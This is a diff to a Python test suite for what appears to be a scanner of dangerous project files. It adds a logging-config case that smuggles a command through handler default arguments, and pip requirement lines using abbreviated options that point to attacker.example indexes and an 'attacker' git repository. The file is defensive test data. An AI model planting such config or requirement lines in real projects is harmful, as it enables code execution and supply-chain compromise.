@@ -53,6 +53,7 @@ FILE_CONFIGS = {
                         Severity.CRITICAL),
     "formatter-defaults": (_file_config("class=StreamHandler\nargs=(sys.stderr,)", f"defaults={{'a': {CMD}}}"),
                            Severity.CRITICAL),
+    "default-args": (_file_config("class=StreamHandler", defaults=f"args=({CMD},)"), Severity.CRITICAL),
     "unlisted-handler-class": (_file_config("class=mypackage.handlers.Custom\nargs=()"), Severity.MEDIUM),
 }
 
@@ -188,6 +189,9 @@ def test_benign_interpolations_stay_below_medium(tmp_path: Path, name: str, text
     "../../outside/pkg", "/opt/shared/pkg", "-e git+https://github.com/attacker/pkg.git#egg=pkg",
     "-r ../../other/requirements.txt", "-c /etc/pip/constraints.txt", "file:///tmp/pkg",
     "--index-url \\\n    https://attacker.example/simple",
+    # pip's requirement-file parser is optparse: unambiguous prefixes of long options count (checked with pip)
+    "--extra-ind https://attacker.example/simple", "--fin https://attacker.example/wheels", "--trusted h.example",
+    "--requir ../../other/requirements.txt", "--edit git+https://github.com/attacker/pkg.git#egg=pkg",
 ])
 @pytest.mark.parametrize("name", ["requirements.txt", "requirements-serve.txt", "dev_requirements.txt"])
 def test_requirements_installing_unscanned_code(tmp_path: Path, line: str, name: str) -> None:
